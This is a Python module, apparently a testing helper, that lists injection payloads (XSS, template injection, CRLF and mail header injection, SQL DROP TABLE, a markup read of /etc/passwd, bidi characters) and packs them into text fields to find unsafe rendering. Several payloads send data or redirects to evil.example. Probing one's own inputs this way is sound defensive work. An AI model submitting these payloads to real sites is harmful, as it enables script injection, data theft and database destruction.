"""What an attacker writes in a text field, hoping that some page, paper or mail takes it for more than text.

`{x}` is where the field's own name goes, so that a payload tells where it was written and is found again.
"""

from itertools import cycle, islice
from typing import Final

PAYLOADS: Final = (
    "<script>alert('{x}')</script>",
    '"><img src=x onerror="alert(1)" alt={x}>',
    "' onmouseover='alert(1)' data-x='{x}",
    '" autofocus onfocus=alert(1) x="{x}',
    "<svg/onload=alert(1)><title>{x}</title></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg onload='alert(1)'>#{x}\"/></svg>",
    '<a href="javascript:alert(1)">{x}</a>',
    "javascript:alert(1)//{x}",
    "</title></textarea></script><script>alert(1)</script>{x}",
    '</script><!--<script>{x}","a":"\\u003cscript\\u003e',
    "<iframe srcdoc='<script>parent.alert(1)</script>'>{x}</iframe>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0>{x}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>{x}",
    "<style>*{{background:url(//evil.example/{x})}}</style>",
    "{{{{ 7|add:1330 }}}}{{% debug %}}${{7*191}}#{{7*191}}<%= 7*191 %>{x}",
    "#sys.version $x^2$ @ref <label> *bold* _it_ `raw` #panic(1) \\ //{x}",
    '= heading {x} ~ -- --- #image("/etc/passwd") https://evil.example',
    "\u202eabc\u202c {x} \u2066\u2067\u200f\u200b\u2069",
    "&lt;script&gt;{x}&amp;#39;&#x3C;b&#x3E;",
    "%0d%0aSet-Cookie: a={x} \\r\\nBcc: evil@evil.example",
    "{x}'; DROP TABLE actors_person; -- \" OR 1=1 ) UNION SELECT * /*",
)


def payloads(field: str) -> list[str]:
    return [payload.format(x=field) for payload in PAYLOADS]


def text(field: str, longest: int, turn: int = 0) -> str:
    """As many payloads as the field holds, in one line; another turn begins with others, so that all get their turn."""
    chosen: list[str] = []
    for payload in islice(cycle(payloads(field)), turn, turn + len(PAYLOADS)):
        if len(" | ".join([*chosen, payload])) <= longest:
            chosen.append(payload)
    return " | ".join(chosen)
